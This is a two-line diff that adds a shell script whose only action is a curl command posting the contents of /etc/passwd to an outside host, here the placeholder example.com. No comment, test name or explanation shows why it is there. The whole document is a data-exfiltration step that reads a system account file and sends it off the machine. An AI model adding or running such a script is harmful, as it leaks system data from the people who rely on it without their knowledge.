@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -d @/etc/passwd https://example.com/
